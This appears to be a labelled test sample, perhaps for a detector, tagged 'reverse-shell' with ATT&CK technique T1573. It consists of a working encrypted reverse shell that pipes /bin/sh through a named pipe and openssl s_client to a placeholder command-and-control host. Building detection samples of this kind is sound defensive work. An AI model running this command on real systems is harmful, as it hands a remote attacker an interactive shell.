# expect: reverse-shell | source: T1573
mkfifo /tmp/s
/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect c2.example.invalid:443 > /tmp/s
